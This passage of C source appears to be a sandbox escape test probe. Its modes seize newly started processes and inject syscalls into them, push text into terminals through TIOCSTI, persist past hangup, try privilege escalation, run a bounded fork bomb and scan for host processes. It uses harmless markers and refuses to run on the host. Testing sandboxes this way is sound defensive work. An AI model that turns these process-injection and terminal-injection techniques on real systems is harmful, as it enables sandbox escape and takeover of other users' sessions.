    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char p[2048];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        umount2(p, MNT_DETACH);
        if (rmdir(p) && unlink(p)) remove_tree(p), rmdir(p);
    }
    if (d) closedir(d);
    rmdir(dir);
}

static int mode_all(void) {
    const char *sc = opt("scratch") ? opt("scratch") : "/tmp";
    snprintf(g_scratch, sizeof g_scratch, "%s/vsbox-probe-XXXXXX", sc);
    if (!mkdtemp(g_scratch)) {
        fprintf(stderr, "probe: mkdtemp %s: %s\n", g_scratch, err());
        return 2;
    }
    int shared = opt("sharedfs") && !strcmp(opt("sharedfs"), "1");
    for (size_t i = 0; i < sizeof ATTACKS / sizeof ATTACKS[0]; i++) {
        if (shared && ATTACKS[i].skip_when_shared) continue;
        group(ATTACKS[i].names, ATTACKS[i].timeout, ATTACKS[i].fn);
    }
    remove_tree(g_scratch);
    printf("total %d\n", g_total);
    fflush(stdout);
    return 0;
}

/* The setup window: every new process, read at once and seized when possible. */
static int mode_watch(void) {
    const char *stop = opt("stop");
    int max = opt("max") ? atoi(opt("max")) : 120;
    static unsigned char seen[1 << 20]; /* pids up to 8M */
    int fd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) return 2;
    long nseen = 0, nseized = 0, wins = 0, rounds = 0;
    time_t end = time(NULL) + max;
    static char buf[1 << 16];
    int first = 1;
    for (;;) {
        lseek(fd, 0, SEEK_SET);
        long n;
        while ((n = syscall(SYS_getdents64, fd, buf, sizeof buf)) > 0) {
            for (long off = 0; off < n;) {
                struct {
                    uint64_t ino;
                    int64_t off;
                    unsigned short reclen;
                    unsigned char type;
                    char name[];
                } *de = (void *)(buf + off);
                off += de->reclen;
                if (!is_pid_name(de->name)) continue;
                long pid = atol(de->name);
                if (pid <= 0 || pid >= (1L << 23) || (seen[pid >> 3] & (1 << (pid & 7)))) continue;
                seen[pid >> 3] |= 1 << (pid & 7);
                if (first || pid == getpid()) continue;
                nseen++;
                struct pstate s = read_state(pid);
                char why[300];
                if (s.ok) {
                    stronger(&s, why, sizeof why);
                    if (why[0]) {
                        wins++;
                        printf("win %ld %s: status: %s\n", pid, s.name, why);
                        fflush(stdout);
                    }
                }
                struct victim v;
                if (!seize(&v, pid)) {
                    nseized++;
                    struct pstate t = read_state(pid);
                    char why2[300] = "";
                    if (t.ok) stronger(&t, why2, sizeof why2);
                    if (why2[0]) {
                        int ok;
                        long r = inject(&v, &ok, SYS_getpid, 0, 0, 0, 0, 0, 0);
                        if (ok) {
                            wins++;
                            printf("win %ld %s: seized while %sand made it call getpid (%ld)\n", pid, t.name, why2, r);
                            fflush(stdout);
                        }
                    }
                    release(&v);
                }
            }
        }
        if (first) {
            first = 0;
            printf("ready\n");
            fflush(stdout);
        }
        if ((++rounds & 63) == 0 && ((stop && access(stop, F_OK) == 0) || time(NULL) > end)) break;
    }
    printf("seen %ld seized %ld wins %ld\n", nseen, nseized, wins);
    fflush(stdout);
    return 0;
}

static int inject_text(int fd, const char *text) {
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0) return -1;
    return 0;
}

static int mode_tiocsti(void) {
    const char *marker = opt("marker") ? opt("marker") : "vsbox-tiocsti";
    for (int fd = 0; fd < 3; fd++) {
        int r = inject_text(fd, marker);
        printf("fd%d %s %s\n", fd, r == 0 ? "injected" : "refused", r == 0 ? "-" : err());
    }
    int t = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (t < 0)
        printf("devtty absent %s\n", err());
    else {
        int r = inject_text(t, marker);
        printf("devtty %s %s\n", r == 0 ? "injected" : "refused", r == 0 ? "-" : err());
    }
    printf("sid %d pgid %d pid %d\n", getsid(0), getpgid(0), getpid());
    fflush(stdout);
    return 0;
}

static int mode_daemon(void) {
    const char *marker = opt("marker") ? opt("marker") : "vsbox-tiocsti";
    const char *out = opt("out");
    /* The terminal's hangup when the starting command's session ends must not
     * stop it: an attacker ignores it. */
    signal(SIGHUP, SIG_IGN);
    sleep(1);
    FILE *f = out ? fopen(out, "w") : stdout;
    if (!f) return 2;
    for (int fd = 0; fd < 256; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        int tty = isatty(fd);
        int r = tty ? inject_text(fd, marker) : -1;
        ssize_t w = write(fd, marker, strlen(marker));
        fprintf(f, "fd %d dev %lu ino %lu rdev %lu tty %d tiocsti %s write %s\n", fd, (unsigned long)st.st_dev, (unsigned long)st.st_ino, (unsigned long)st.st_rdev, tty,
                r == 0 ? "injected" : "refused", w > 0 ? "ok" : "refused");
    }
    int t = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (t >= 0) {
        int r = inject_text(t, marker);
        fprintf(f, "devtty tiocsti %s\n", r == 0 ? "injected" : "refused");
    } else
        fprintf(f, "devtty absent\n");
    fprintf(f, "sid %d\ndone\n", getsid(0));
    fclose(f);
    return 0;
}

static int mode_escalate(void) {
    struct pstate s = read_state(getpid());
    char got[300] = "";
    size_t l = 0;
    if (s.eff & CAP_SYS_ADMIN_BIT) l += snprintf(got + l, sizeof got - l, "CAP_SYS_ADMIN effective (CapEff %llx); ", (unsigned long long)s.eff);
    char h[256] = "";
    gethostname(h, sizeof h - 1);
    if (sethostname(h, strlen(h)) == 0) l += snprintf(got + l, sizeof got - l, "sethostname worked; ");
    if (syscall(SYS_unshare, CLONE_NEWNS) == 0) l += snprintf(got + l, sizeof got - l, "unshare(CLONE_NEWNS) worked; ");
    if (l) {
        printf("%s(euid %d)\n", got, geteuid());
        return 10;
    }
    printf("nothing gained (euid %d, CapEff %llx)\n", geteuid(), (unsigned long long)s.eff);
    return 0;
}

static int mode_forkbomb(void) {
    int max = opt("max") ? atoi(opt("max")) : 100;
    static pid_t kids[4096];
    int n = 0;
    char why[100] = "never refused";
    while (n < max && n < 4096) {
        pid_t p = fork();
        if (p == 0) {
            pause();
            _exit(0);
        }
        if (p < 0) {
            snprintf(why, sizeof why, "%s", err());
            break;
        }
        kids[n++] = p;
    }
    static int pids[65536];
    int procs = list_pids("/proc", pids, 65536);
    for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
    for (int i = 0; i < n; i++) waitpid(kids[i], NULL, 0);
    printf("forks %d procs %d (%s)\n", n, procs, why);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: probe HOSTPIDNS MODE [key=value...]\n");
        return 2;
    }
    g_hostns_arg = argv[1];
    g_hostns = strtoul(argv[1], NULL, 10);
    struct stat st;
    if (stat("/proc/self/ns/pid", &st) != 0 || (unsigned long)st.st_ino == g_hostns || g_hostns == 0) {
        fprintf(stderr, "probe: refusing to run on the host (its pid namespace is %s; this is the escape suite's attacker)\n", argv[1]);
        return 3;
    }
    note_inherited();
    for (int i = 3; i < argc && g_nopts < 64; i++) {
        char *eq = strchr(argv[i], '=');
        if (!eq) continue;
        *eq = 0;
        g_keys[g_nopts] = argv[i];
        g_vals[g_nopts++] = eq + 1;
    }
    ssize_t sl = readlink("/proc/self/exe", g_self, sizeof g_self - 1);
    g_self[sl > 0 ? sl : 0] = 0;
    g_me = read_state(getpid());
    signal(SIGPIPE, SIG_IGN);
    const char *mode = argv[2];
    if (!strcmp(mode, "all")) return mode_all();
    if (!strcmp(mode, "watch")) return mode_watch();
    if (!strcmp(mode, "tiocsti")) return mode_tiocsti();
    if (!strcmp(mode, "daemon")) return mode_daemon();
    if (!strcmp(mode, "escalate")) return mode_escalate();
    if (!strcmp(mode, "forkbomb")) return mode_forkbomb();
    if (!strcmp(mode, "nice")) {
        errno = 0;
        printf("%d\n", getpriority(PRIO_PROCESS, 0));
        return 0;
    }
    if (!strcmp(mode, "noop")) return 0;
    if (!strcmp(mode, "hostscan")) {
        char desc[600];
        if (host_scan("/proc", desc, sizeof desc)) {
            printf("%s\n", desc);
            return 10;
        }
        return 0;
    }
    fprintf(stderr, "probe: unknown mode %s\n", mode);
    return 2;
}
